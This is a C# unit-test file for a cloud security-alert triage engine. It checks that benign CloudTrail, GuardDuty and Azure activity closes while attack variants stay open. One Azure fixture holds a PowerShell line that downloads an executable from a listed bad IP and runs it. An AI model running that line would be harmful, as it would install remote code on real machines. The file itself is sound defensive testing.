using System.Text.Json;
using Verdict.Analysis;
using Verdict.Context;

namespace Verdict.Tests.Analysis.Families;

/// <summary>
/// Cloud alerts as vendors export them (CloudTrail and GuardDuty inside EventBridge envelopes, Azure Activity rows from
/// Sentinel): the actor, source and region are read where the vendor nests them, and each benign reason closes its
/// case while the attack riding the same reason stays open.
/// </summary>
public sealed class CloudReadingTests
{
    private const string Egress = "4.175.22.10";
    private const string Home = "86.12.88.201";

    private static EnvironmentContext Context()
    {
        var egress = new IpRangeSet();
        Assert.True(egress.TryAdd("4.175.22.0/24"));
        var bad = new IpRangeSet();
        Assert.True(bad.TryAdd("193.233.21.44"));
        return FamilyFixtures.Context() with
        {
            AutomationEgress = egress, BadIps = bad,
            CloudRegions = new HashSet<string>(["eu-west-2", "uksouth"], StringComparer.OrdinalIgnoreCase),
        };
    }

    private static Assessment Assess(object input) =>
        FamilyFixtures.Triage([new FamilyFixture("c0", JsonSerializer.Serialize(input), true, "")], Context())[0].Assessment!;

    private static object Identity(string arn, string? issuer = null, string type = "AssumedRole") => issuer is null
        ? new { type, arn, userName = arn.Split('/')[^1] }
        : new { type, arn, sessionContext = new { sessionIssuer = new { type = "Role", userName = issuer } } };

    private static object CloudTrail(string name, string source, string region, string ip, object identity, object? request = null,
        string ua = "aws-cli/2.18.14 Python/3.12.6 Linux/6.8.0", string severity = "medium", object? extra = null) => new
    {
        alert_id = "ct", rule = $"{name} alert", severity,
        detail = new
        {
            eventTime = "2026-11-18T10:02:11Z", eventSource = source, eventName = name, awsRegion = region, sourceIPAddress = ip,
            userAgent = ua, userIdentity = identity, requestParameters = request, additionalEventData = extra,
        },
    };

    private static readonly object CiRole = Identity("arn:aws:sts::111122223333:assumed-role/github-actions-deploy/GitHubActions", "github-actions-deploy");
    private static readonly object SsoAdmin = Identity("arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_DataEngineer_ab12/jo.bloggs@globex.com", "AWSReservedSSO_DataEngineer_ab12");

    [Fact]
    public void A_ci_role_is_read_from_the_session_issuer_trusted_from_its_egress_and_suspect_from_a_home_ip()
    {
        var rotate = Assess(CloudTrail("CreateAccessKey", "iam.amazonaws.com", "us-east-1", Egress, CiRole, new { userName = "svc-sftp" }));
        Assert.Equal(Classification.Benign, rotate.Classification);
        Assert.Contains(rotate.Evidence, e => e.Key == "automation_verified");

        var secret = Assess(CloudTrail("GetSecretValue", "secretsmanager.amazonaws.com", "eu-west-2", Home, CiRole, new { secretId = "db-admin" }, severity: "low"));
        Assert.NotEqual(Classification.Benign, secret.Classification);
        Assert.Contains(secret.Evidence, e => e.Key == "automation_unusual_source" && e.Strong);
    }

    [Fact]
    public void Global_services_in_us_east_1_are_not_an_unusual_region_but_regional_services_there_are()
    {
        var cdn = Assess(CloudTrail("UpdateDistribution", "cloudfront.amazonaws.com", "us-east-1", Egress, CiRole, severity: "low"));
        Assert.DoesNotContain(cdn.Evidence, e => e.Key == "unusual_region");
        Assert.Contains(cdn.Evidence, e => e.Key == "global_service");
        Assert.Equal(Classification.Benign, cdn.Classification);

        var ec2 = Assess(CloudTrail("RunInstances", "ec2.amazonaws.com", "us-east-1", Home, SsoAdmin, new { instanceType = "p4d.24xlarge" }));
        Assert.Contains(ec2.Evidence, e => e.Key == "unusual_region");
        Assert.NotEqual(Classification.Benign, ec2.Classification);
    }

    [Fact]
    public void An_sso_console_login_reporting_no_mfa_is_federated_but_an_iam_user_without_mfa_is_not()
    {
        var sso = Assess(CloudTrail("ConsoleLogin", "signin.amazonaws.com", "eu-west-2", Home, SsoAdmin, extra: new { MFAUsed = "No" }, severity: "high"));
        Assert.Contains(sso.Evidence, e => e.Key == "sso_federated");
        Assert.Equal(Classification.Benign, sso.Classification);

        var iamUser = Assess(CloudTrail("ConsoleLogin", "signin.amazonaws.com", "eu-west-2", Home,
            Identity("arn:aws:iam::111122223333:user/ops-temp", type: "IAMUser"), extra: new { MFAUsed = "No" }, severity: "high"));
        Assert.Contains(iamUser.Evidence, e => e.Key == "console_login_no_mfa");
        Assert.NotEqual(Classification.Benign, iamUser.Classification);
    }

    [Fact]
    public void An_aws_backup_cross_account_copy_is_not_exfiltration_but_a_person_sharing_a_snapshot_out_is()
    {
        object Share(string ip, object who) => CloudTrail("ModifySnapshotAttribute", "ec2.amazonaws.com", "eu-west-2", ip, who,
            new { snapshotId = "snap-1", createVolumePermission = new { add = new { items = new[] { new { userId = "444455556666" } } } } }, ua: ip, severity: "high");
        var backup = Assess(Share("backup.amazonaws.com", Identity("arn:aws:sts::111122223333:assumed-role/AWSBackupDefaultServiceRole/AWSBackup-x", "AWSBackupDefaultServiceRole")));
        Assert.Contains(backup.Evidence, e => e.Key == "backup_copy");
        Assert.Equal(Classification.Benign, backup.Classification);

        var person = Assess(Share(Home, SsoAdmin));
        Assert.Contains(person.Evidence, e => e.Key == "shared_outside_account");
        Assert.NotEqual(Classification.Benign, person.Classification);
    }

    [Fact]
    public void Calls_from_a_kali_cli_weigh_against_even_an_administrator()
    {
        var a = Assess(CloudTrail("DeleteFlowLogs", "ec2.amazonaws.com", "eu-west-2", Home, Identity("arn:aws:iam::111122223333:user/cloud.admin", type: "IAMUser"),
            ua: "aws-cli/2.13.0 Python/3.11.4 Linux/5.15.0 exe/x86_64.kali.2023"));
        Assert.Contains(a.Evidence, e => e.Key == "attack_os_user_agent");
        Assert.Equal(Classification.Malicious, a.Classification);
    }

    private static Dictionary<string, object> GuardDuty(string type, double severity, object action, object? resource = null) => new()
    {
        ["version"] = "0", ["id"] = "gd", ["detail-type"] = "GuardDuty Finding", ["source"] = "aws.guardduty", ["account"] = "111122223333",
        ["time"] = "2026-11-18T05:12:40Z", ["region"] = "eu-west-2",
        ["detail"] = new { accountId = "111122223333", region = "eu-west-2", type, severity, title = type, resource = resource ?? new { resourceType = "Instance", instanceDetails = new { instanceId = "i-0abc" } },
            service = new { serviceName = "guardduty", action } },
    };

    private static object Connection(string direction, bool blocked, string ip = "218.92.0.112") =>
        new { actionType = "NETWORK_CONNECTION", networkConnectionAction = new { connectionDirection = direction, blocked, remoteIpDetails = new { ipAddressV4 = ip } } };

    [Fact]
    public void A_blocked_inbound_brute_force_is_noise_but_an_instance_brute_forcing_others_is_not()
    {
        var inbound = Assess(GuardDuty("UnauthorizedAccess:EC2/SSHBruteForce", 2, Connection("INBOUND", true)));
        Assert.Contains(inbound.Evidence, e => e.Key == "inbound_blocked");
        Assert.Equal(Classification.Benign, inbound.Classification);

        var outbound = Assess(GuardDuty("UnauthorizedAccess:EC2/SSHBruteForce", 5, Connection("OUTBOUND", false)));
        Assert.DoesNotContain(outbound.Evidence, e => e.Key == "inbound_blocked");
        Assert.Contains(outbound.Evidence, e => e.Key == "instance_attacking");
        Assert.NotEqual(Classification.Benign, outbound.Classification);
    }

    [Fact]
    public void A_probe_of_a_public_web_port_is_noise_but_a_probe_of_an_open_rdp_port_is_not()
    {
        object Probe(int port) => GuardDuty("Recon:EC2/PortProbeUnprotectedPort", 2, new
        {
            actionType = "PORT_PROBE",
            portProbeAction = new { blocked = false, portProbeDetails = new[] { new { localPortDetails = new { port }, remoteIpDetails = new { ipAddressV4 = "167.94.138.40" } } } },
        });
        Assert.Equal(Classification.Benign, Assess(Probe(443)).Classification);
        var rdp = Assess(Probe(3389));
        Assert.DoesNotContain(rdp.Evidence, e => e.Key == "public_web_port_probe");
        Assert.NotEqual(Classification.Benign, rdp.Classification);
    }

    /// <summary>A GuardDuty finding as GetFindings returns it (PascalCase, no EventBridge envelope), with the prose title and Service.AdditionalInfo.</summary>
    private static Dictionary<string, object> NativeGuardDuty(string type, double severity, object action) => new()
    {
        ["SchemaVersion"] = "2.0", ["AccountId"] = "111122223333", ["Id"] = "gdnative", ["Region"] = "eu-west-2", ["Type"] = type, ["Severity"] = severity,
        ["Title"] = "Port on EC2 instance i-0abc is being probed by a known malicious host.",
        ["Description"] = "EC2 instance i-0abc is being probed by a known malicious host.",
        ["CreatedAt"] = "2026-11-18T05:12:40Z",
        ["Resource"] = new { ResourceType = "Instance", InstanceDetails = new { InstanceId = "i-0abc" } },
        ["Service"] = new { ServiceName = "guardduty", ResourceRole = "TARGET", Action = action, AdditionalInfo = new { Value = "{}", Type = "default" } },
    };

    [Fact]
    public void A_native_GetFindings_probe_is_read_by_its_type_not_its_title_or_AdditionalInfo_type()
    {
        object Probe(string type, int port, double severity = 2) => NativeGuardDuty(type, severity, new
        {
            ActionType = "PORT_PROBE",
            PortProbeAction = new { Blocked = false, PortProbeDetails = new[] { new { LocalPortDetails = new { Port = port }, RemoteIpDetails = new { IpAddressV4 = "167.94.138.40" } } } },
        });
        var web = Assess(Probe("Recon:EC2/PortProbeUnprotectedPort", 443));
        Assert.Contains(web.Evidence, e => e.Key == "public_web_port_probe");
        Assert.Equal(Classification.Benign, web.Classification);

        // Adversarial: the same native finding probing an exposed RDP port, rated medium, is not waved through as noise.
        var rdp = Assess(Probe("Recon:EC2/PortProbeUnprotectedPort", 3389, 5));
        Assert.DoesNotContain(rdp.Evidence, e => e.Key is "public_web_port_probe" or "inbound_noise_rated_low");
        Assert.NotEqual(Classification.Benign, rdp.Classification);

        // Adversarial: a compromise type in the native shape is read as one.
        var backdoor = Assess(NativeGuardDuty("Backdoor:EC2/C&CActivity.B", 8, new
        {
            ActionType = "NETWORK_CONNECTION",
            NetworkConnectionAction = new { ConnectionDirection = "OUTBOUND", Blocked = false, RemoteIpDetails = new { IpAddressV4 = "45.141.84.9" } },
        }));
        Assert.Contains(backdoor.Evidence, e => e.Key == "guardduty_compromise");
        Assert.NotEqual(Classification.Benign, backdoor.Classification);
    }

    [Fact]
    public void A_probe_from_an_internet_measurement_service_is_noise_but_one_source_elsewhere_keeps_it_open()
    {
        object Probe(params string[] orgs) => GuardDuty("Recon:EC2/PortProbeUnprotectedPort", 2, new
        {
            actionType = "PORT_PROBE",
            portProbeAction = new
            {
                blocked = false,
                portProbeDetails = orgs.Select((org, i) => new
                {
                    localPortDetails = new { port = 7777 },
                    remoteIpDetails = new { ipAddressV4 = $"167.94.138.{40 + i}", organization = new { asnOrg = org, org } },
                }).ToArray(),
            },
        });
        var census = Assess(Probe("Censys, Inc.", "Shadowserver Foundation"));
        Assert.Contains(census.Evidence, e => e.Key == "research_scanner_probe");
        Assert.Equal(Classification.Benign, census.Classification);

        // One of the probers is an ordinary hosting provider: someone else is looking at the port too.
        var mixed = Assess(Probe("Censys, Inc.", "Stark Industries Solutions"));
        Assert.DoesNotContain(mixed.Evidence, e => e.Key == "research_scanner_probe");
        Assert.NotEqual(Classification.Benign, mixed.Classification);
    }

    [Fact]
    public void A_single_remote_probe_from_an_internet_measurement_service_is_noise_but_a_brute_force_from_it_is_not()
    {
        // GuardDuty may put a probe's one remote address in networkConnectionAction rather than portProbeDetails.
        object Inbound(string type, string org) => GuardDuty(type, 2, new
        {
            actionType = "NETWORK_CONNECTION",
            networkConnectionAction = new
            {
                connectionDirection = "INBOUND", blocked = false, localPortDetails = new { port = 22 },
                remoteIpDetails = new { ipAddressV4 = "71.6.146.185", organization = new { asnOrg = org, org } },
            },
        });
        var probe = Assess(Inbound("Recon:EC2/PortProbeUnprotectedPort", "Shodan.io"));
        Assert.Contains(probe.Evidence, e => e.Key == "research_scanner_probe");
        Assert.Equal(Classification.Benign, probe.Classification);

        var hosting = Assess(Inbound("Recon:EC2/PortProbeUnprotectedPort", "Stark Industries Solutions"));
        Assert.DoesNotContain(hosting.Evidence, e => e.Key == "research_scanner_probe");
        Assert.NotEqual(Classification.Benign, hosting.Classification);

        // The measurement service's name does not excuse trying passwords: only a probe is what such services do.
        var brute = Assess(Inbound("UnauthorizedAccess:EC2/SSHBruteForce", "Shodan.io"));
        Assert.DoesNotContain(brute.Evidence, e => e.Key == "research_scanner_probe");
        Assert.NotEqual(Classification.Benign, brute.Classification);
    }

    [Fact]
    public void An_inbound_brute_force_guardduty_rates_low_is_internet_noise_but_not_from_a_bad_or_internal_address_or_rated_higher()
    {
        object Inbound(string type, double severity, string ip) => new Dictionary<string, object>(GuardDuty(type, severity, Connection("INBOUND", false, ip)))
        {
            ["detail"] = new
            {
                accountId = "111122223333", region = "eu-west-2", type, severity, title = type,
                description = $"{ip} is performing SSH brute force attacks against i-0abc. Brute force attacks are used to gain unauthorized access.",
                resource = new { resourceType = "Instance", instanceDetails = new { instanceId = "i-0abc" } },
                service = new { serviceName = "guardduty", resourceRole = "TARGET", action = Connection("INBOUND", false, ip) },
            },
        };
        var noise = Assess(Inbound("UnauthorizedAccess:EC2/SSHBruteForce", 2, "218.92.0.112"));
        Assert.Contains(noise.Evidence, e => e.Key == "inbound_noise_rated_low");
        Assert.Equal(Classification.Benign, noise.Classification);

        // From a listed bad address, from inside the network (lateral movement), or rated higher: not background noise.
        foreach (var (severity, ip) in new[] { (2.0, "193.233.21.44"), (2.0, "10.20.3.4"), (5.0, "218.92.0.112") })
        {
            var open = Assess(Inbound("UnauthorizedAccess:EC2/SSHBruteForce", severity, ip));
            Assert.DoesNotContain(open.Evidence, e => e.Key == "inbound_noise_rated_low");
            Assert.NotEqual(Classification.Benign, open.Classification);
        }
    }

    [Fact]
    public void Automation_egress_listed_in_a_reserved_range_is_still_the_automation_address()
    {
        // Carrier-grade NAT (100.64.0.0/10) is a reserved range, but the context file lists it as the runners' egress.
        var cgnat = new IpRangeSet();
        Assert.True(cgnat.TryAdd("100.64.10.0/28"));
        var context = Context() with { AutomationEgress = cgnat };
        Assessment Run(string ip) => FamilyFixtures.Triage([new FamilyFixture("c0", JsonSerializer.Serialize(
            CloudTrail("DeleteTrail", "cloudtrail.amazonaws.com", "eu-west-2", ip, CiRole, new { name = "pr-412-trail" }, severity: "high")), true, "")], context)[0].Assessment!;
        var runner = Run("100.64.10.5");
        Assert.Contains(runner.Evidence, e => e.Key == "automation_verified");
        Assert.Equal(Classification.Benign, runner.Classification);

        // The same deletion by the CI role from an address outside the listed egress stays open.
        var elsewhere = Run(Home);
        Assert.Contains(elsewhere.Evidence, e => e.Key == "automation_unusual_source");
        Assert.NotEqual(Classification.Benign, elsewhere.Classification);
    }

    [Fact]
    public void A_bulk_secret_read_is_a_named_threat_that_verified_automation_does_not_close()
    {
        // A pipeline run from the organisation's own runners that reads every secret (a poisoned pull-request workflow):
        // the rule itself names bulk secret retrieval, and where the call came from does not explain that.
        var runners = new IpRangeSet();
        Assert.True(runners.TryAdd("100.64.10.0/28"));
        Assessment Run(string rule)
        {
            var record = System.Text.Json.Nodes.JsonNode.Parse(JsonSerializer.Serialize(
                CloudTrail("GetSecretValue", "secretsmanager.amazonaws.com", "eu-west-2", "100.64.10.5", CiRole, new { secretId = "prod/db" }, severity: "high")))!;
            record["rule"] = rule;
            return FamilyFixtures.Triage([new FamilyFixture("c0", record.ToJsonString(), true, "")], Context() with { AutomationEgress = runners })[0].Assessment!;
        }
        var bulk = Run("AWS Secrets Manager Bulk Retrieval");
        Assert.Contains(bulk.Evidence, e => e.Key == "threat_named");
        Assert.NotEqual(Classification.Benign, bulk.Classification);
        // The same call under a rule that names no threat is the pipeline's ordinary work.
        Assert.Equal(Classification.Benign, Run("Secret read by automation").Classification);
    }

    [Fact]
    public void A_port_scan_by_the_tagged_scanner_instance_is_closed_but_by_any_other_instance_is_not()
    {
        object Scan(string name) => GuardDuty("Recon:EC2/Portscan", 5, Connection("OUTBOUND", false, "10.50.3.21"),
            new { resourceType = "Instance", instanceDetails = new { instanceId = "i-0d1e", tags = new[] { new { key = "Name", value = name } } } });
        Assert.Equal(Classification.Benign, Assess(Scan("nessus-cloud-scanner")).Classification);
        Assert.NotEqual(Classification.Benign, Assess(Scan("web-frontend-2")).Classification);
    }

    [Fact]
    public void Root_attributed_to_an_aws_service_is_closed_but_stolen_instance_credentials_are_malicious()
    {
        object Api(string callerType, string? ip) => new { actionType = "AWS_API_CALL", awsApiCallAction = new { api = "GetAccountContactInformation", callerType, remoteIpDetails = ip is null ? null : new { ipAddressV4 = ip } } };
        var service = Assess(GuardDuty("Policy:IAMUser/RootCredentialUsage", 2, Api("AWS Service", null), new { resourceType = "AccessKey", accessKeyDetails = new { userName = "Root", userType = "Root" } }));
        Assert.Contains(service.Evidence, e => e.Key == "aws_service_caller");
        Assert.Equal(Classification.Benign, service.Classification);

        var stolen = Assess(GuardDuty("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", 8, Api("Remote IP", "5.188.86.29"),
            new { resourceType = "AccessKey", accessKeyDetails = new { userName = "api-task-role", userType = "AssumedRole" } }));
        Assert.Contains(stolen.Evidence, e => e.Key == "guardduty_compromise" && e.Strong);
        Assert.NotEqual(Classification.Benign, stolen.Classification);
    }

    private static Dictionary<string, object> Azure(string op, string caller, string ip, string resource, object properties, string severity = "Medium") => new()
    {
        ["id"] = "az", ["TimeGenerated"] = "2026-11-18T10:30:00Z", ["title"] = "Azure activity", ["severity"] = severity, ["OperationNameValue"] = op,
        ["Caller"] = caller, ["CallerIpAddress"] = ip, ["_ResourceId"] = resource, ["ActivityStatusValue"] = "Succeeded", ["Properties_d"] = properties,
    };

    [Fact]
    public void Azure_activity_from_sentinel_is_a_cloud_event_sandbox_changes_close_but_opening_ssh_to_the_world_does_not()
    {
        const string Sandbox = "/subscriptions/1/resourceGroups/rg-sandbox-jbloggs/providers/";
        var alertRule = Assess(Azure("MICROSOFT.INSIGHTS/ACTIVITYLOGALERTS/DELETE", "jo.bloggs@globex.com", "10.20.0.5", Sandbox + "microsoft.insights/activityLogAlerts/budget", new { }));
        Assert.Contains(alertRule.Evidence, e => e.Key == "sandbox_resource");
        Assert.Equal(Classification.Benign, alertRule.Classification);

        var ssh = Assess(Azure("MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE", "jo.bloggs@globex.com", "10.20.0.5", Sandbox + "Microsoft.Network/networkSecurityGroups/nsg/securityRules/ssh",
            new { requestbody = "{\"properties\":{\"access\":\"Allow\",\"direction\":\"Inbound\",\"sourceAddressPrefix\":\"*\",\"destinationPortRange\":\"22\"}}" }));
        Assert.Contains(ssh.Evidence, e => e.Key == "public_exposure");
        Assert.NotEqual(Classification.Benign, ssh.Classification);
    }

    [Fact]
    public void An_admin_run_command_is_routine_until_it_fetches_from_a_listed_bad_address()
    {
        const string Vm = "/subscriptions/1/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/vm-app-02";
        var restart = Assess(Azure("MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", "it.admin@globex.com", "10.20.0.5", Vm, new { script = "Restart-Service -Name QueueWorker" }));
        Assert.Equal(Classification.Benign, restart.Classification);

        var fetch = Assess(Azure("MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", "it.admin@globex.com", "10.20.0.5", Vm,
            new { script = "iwr http://193.233.21.44/a.exe -OutFile C:\\Windows\\Temp\\a.exe; Start-Process C:\\Windows\\Temp\\a.exe" }));
        Assert.Contains(fetch.Evidence, e => e.Key == "bad_ip_in_event" && e.Strong);
        Assert.NotEqual(Classification.Benign, fetch.Classification);
    }

    [Fact]
    public void A_managed_identity_reading_its_vault_is_closed_but_a_person_listing_storage_keys_at_night_is_not()
    {
        var mi = Assess(Azure("MICROSOFT.KEYVAULT/VAULTS/SECRETS/LIST", "4f1b0c2a-7e6d-4a1b-9c3e-5d2f8a7b6c10", "20.90.134.12",
            "/subscriptions/1/resourceGroups/rg-prod/providers/Microsoft.KeyVault/vaults/kv-prod", new { identityType = "ManagedIdentity" }, "Low"));
        Assert.Contains(mi.Evidence, e => e.Key == "managed_identity_read");
        Assert.Equal(Classification.Benign, mi.Classification);

        var keys = Assess(Azure("MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION", "jo.bloggs@globex.com", "104.28.40.18",
            "/subscriptions/1/resourceGroups/rg-prod/providers/Microsoft.Storage/storageAccounts/st1", new { clientInfo = "python-requests/2.32.3" }) );
        Assert.Contains(keys.Evidence, e => e.Key == "keys_listed");
        Assert.NotEqual(Classification.Benign, keys.Classification);
    }

    [Fact]
    public void An_unlisted_role_calling_from_the_automation_runners_is_a_pipeline_but_from_elsewhere_is_not()
    {
        var deploy = Identity("arn:aws:sts::111122223333:assumed-role/deploy-prod/run-42", "deploy-prod");
        var fromRunner = Assess(CloudTrail("AttachRolePolicy", "iam.amazonaws.com", "us-east-1", Egress, deploy, new { roleName = "api-task", policyArn = "arn:aws:iam::111122223333:policy/sqs-read" }));
        Assert.Contains(fromRunner.Evidence, e => e.Key == "automation_egress");
        Assert.Equal(Classification.Benign, fromRunner.Classification);

        var fromHome = Assess(CloudTrail("AttachRolePolicy", "iam.amazonaws.com", "us-east-1", Home, deploy, new { roleName = "api-task", policyArn = "arn:aws:iam::111122223333:policy/sqs-read" }));
        Assert.DoesNotContain(fromHome.Evidence, e => e.Key == "automation_egress");
        Assert.NotEqual(Classification.Benign, fromHome.Classification);
    }

    [Fact]
    public void Sentinel_cloudtrail_columns_and_service_linked_roles_are_read()
    {
        Dictionary<string, object> Row(string arn, string type, string issuer, string extra, string ip = Home) => new()
        {
            ["id"] = "s", ["TimeGenerated"] = "2026-11-18T10:00:00Z", ["title"] = "AWS console login without MFA", ["severity"] = "High",
            ["EventName"] = "ConsoleLogin", ["EventSource"] = "signin.amazonaws.com", ["AWSRegion"] = "eu-west-2", ["SourceIpAddress"] = ip,
            ["UserIdentityArn"] = arn, ["UserIdentityType"] = type, ["SessionIssuerUserName"] = issuer, ["AdditionalEventData"] = extra,
        };
        var sso = Assess(Row("arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_ReadOnly_ab12/jo.bloggs@globex.com", "AssumedRole", "AWSReservedSSO_ReadOnly_ab12", "{\"MFAUsed\":\"No\"}"));
        Assert.Contains(sso.Evidence, e => e.Key == "sso_federated");
        Assert.Equal(Classification.Benign, sso.Classification);
        var user = Assess(Row("arn:aws:iam::111122223333:user/ops-temp", "IAMUser", "", "{\"MFAUsed\":\"No\"}"));
        Assert.Contains(user.Evidence, e => e.Key == "console_login_no_mfa");
        Assert.NotEqual(Classification.Benign, user.Classification);

        var linked = Assess(CloudTrail("DeleteLogGroup", "logs.amazonaws.com", "eu-west-2", "10.20.0.9",
            Identity("arn:aws:sts::111122223333:assumed-role/AWSServiceRoleForECS/ecs-service-scheduler", "AWSServiceRoleForECS"), severity: "low"));
        Assert.Contains(linked.Evidence, e => e.Key == "aws_service_caller");
    }
}
